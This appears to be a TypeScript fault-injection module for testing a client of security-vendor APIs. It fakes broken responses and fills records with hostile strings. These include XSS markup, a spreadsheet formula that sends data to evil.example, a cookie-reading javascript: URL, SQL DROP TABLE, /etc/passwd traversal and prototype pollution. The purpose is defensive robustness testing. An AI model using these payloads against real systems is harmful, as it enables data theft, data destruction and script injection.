import { isExactNumber, isObject, type Json, type JsonObject, parseExact } from '../json.ts';
import type { Answer } from './answer.ts';
import { jsonAnswer } from './answer.ts';
import type { Fault } from './faults.ts';

/** Faults that are a wrong answer, delivered properly. The rest are done to the connection, in deliver.ts. */
export function toFaultyAnswer(
  fault: Fault,
  good: Answer,
  previousPage: Answer | undefined,
  errorBody: (status: number) => unknown = generalErrorBody,
): Answer {
  switch (fault.kind) {
    case 'status':
      return statusAnswer(fault, good, errorBody);
    case 'truncated-json':
      return { ...good, body: good.body.slice(0, Math.floor(good.body.length / 2)) };
    case 'html':
      return { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: SIGN_IN_PAGE };
    case 'other-json':
      return { ...good, status: 200, body: '"Down for maintenance"' };
    case 'empty':
      return { ...good, status: 200, body: '' };
    case 'wrong-content-type':
      return { ...good, headers: { ...good.headers, 'content-type': 'text/plain' } };
    case 'redirect':
      return { status: 302, headers: { location: fault.location ?? 'https://elsewhere.example/api/2.0/' }, body: '' };
    case 'repeat-page':
      return previousPage ?? good;
    case 'schema-drift':
      return withRecords(good, (records) => drift(records, fault.drift ?? 'not-object'));
    case 'hostile-record':
      return withRecords(good, (records) => records.map((record, index) => (index === 0 ? toHostile(record) : record)));
    default:
      return good;
  }
}

/** What an attacker writes into alarms: markup, formulas, odd directions, dangerous links, control characters. */
export const hostileTexts: readonly string[] = [
  '<img src=x onerror="document.title=\'owned\'"><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  'javascript:alert(document.cookie)',
  'invoice\u202Efdp.exe',
  'line one\nline two\r\n\u0000\u0007\u001b[31mred',
  '{{constructor.constructor("alert(1)")()}} ${7*7} %s %n',
  "'; DROP TABLE findings; --",
  '../../../../etc/passwd',
  '\ud800 lone surrogate',
  `${'A'.repeat(20_000)} long`,
  'xn--80ak6aa92e.example',
  '&lt;b&gt;encoded&lt;/b&gt; &amp;amp;',
];

const KEPT =
  /uuid|^u?id$|timestamp|timeStamp|time$|^status$|priority|_links|packet_type|_guid|sha256|detection_id|tenantID|correlationRuleID|Seen$/;

function toHostile(record: Json): Json {
  if (!isObject(record)) return record;
  let used = 0;
  const withHostileTexts = (object: JsonObject): JsonObject => {
    const out: JsonObject = {};
    for (const [key, value] of Object.entries(object)) {
      if (KEPT.test(key)) out[key] = value;
      else if (typeof value === 'string') out[key] = hostileTexts[used++ % hostileTexts.length];
      else out[key] = isObject(value) && !isExactNumber(value) ? (withHostileTexts(value) as Json) : value;
    }
    return out;
  };
  const out = withHostileTexts(record);
  out['__proto__polluted'] = { constructor: { prototype: { polluted: true } } };
  return out as Json;
}

function drift(records: Json[], how: NonNullable<Fault['drift']>): Json {
  if (how === 'no-list') return null;
  if (how === 'wrapped') return { list: records };
  const middle = Math.floor(records.length / 2);
  return records.map((record, index) => {
    if (index !== middle) return record;
    if (how === 'not-object') return 'not a record';
    if (how === 'null-record') return null;
    return toWrongTypes(record);
  });
}

function toWrongTypes(record: Json): Json {
  if (!isObject(record)) return record;
  const out: JsonObject = {};
  for (const [key, value] of Object.entries(record)) {
    if (/uuid|^id$/.test(key)) out[key] = value;
    else if (typeof value === 'string') out[key] = { unexpected: [value] };
    else if (typeof value === 'number') out[key] = `${value} units`;
    else out[key] = Array.isArray(value) ? 'a list no more' : 17;
  }
  return out as Json;
}

/** Finds the list of records wherever a vendor puts it: the body itself, `_embedded.*`, `items`, `data`. */
function withRecords(answer: Answer, change: (records: Json[]) => Json): Answer {
  const body = parseExact(answer.body);
  if (Array.isArray(body)) return { ...answer, body: JSON.stringify(change(body)) };
  if (!isObject(body)) return answer;
  const holder = isObject(body['_embedded']) ? body['_embedded'] : body;
  const entry = Object.entries(holder).find(([, value]) => Array.isArray(value));
  if (!entry) {
    const changed = change([body]);
    return { ...answer, body: JSON.stringify(Array.isArray(changed) ? (changed[0] ?? null) : changed) };
  }
  holder[entry[0]] = Array.isArray(entry[1]) ? change(entry[1]) : entry[1];
  return { ...answer, body: JSON.stringify(body) };
}

/** A vendor that sends rate headers sends them with its errors as well. */
function statusAnswer(fault: Fault, good: Answer, errorBody: (status: number) => unknown): Answer {
  const status = fault.status ?? 503;
  const rate = Object.entries(good.headers).filter(([name]) => /^x-rate/i.test(name));
  const headers = { ...Object.fromEntries(rate), ...retryAfterHeader(fault) };
  return jsonAnswer(status, errorBody(status), headers);
}

function generalErrorBody(status: number): unknown {
  if (status === 401) return { error: 'invalid_token', error_description: 'Invalid access token' };
  if (status === 403) return { error: 'access_denied', error_description: 'Insufficient permission' };
  return { result: 'failure', error: `Simulated ${status}` };
}

function retryAfterHeader({ retryAfter: wanted = 'none', dateInS = 30 }: Fault): Record<string, string> {
  if (wanted === 'none') return {};
  if (wanted === 'seconds') return { 'retry-after': '30' };
  if (wanted === 'day') return { 'retry-after': '86400' };
  if (wanted === 'date') return { 'retry-after': new Date(Date.now() + dateInS * 1_000).toUTCString() };
  return { 'retry-after': String(wanted) };
}

const SIGN_IN_PAGE = `<!doctype html>
<html lang="en"><head><title>Sign in</title></head>
<body><h1>Sign in</h1><form method="post"><input name="user"></form></body></html>
`;
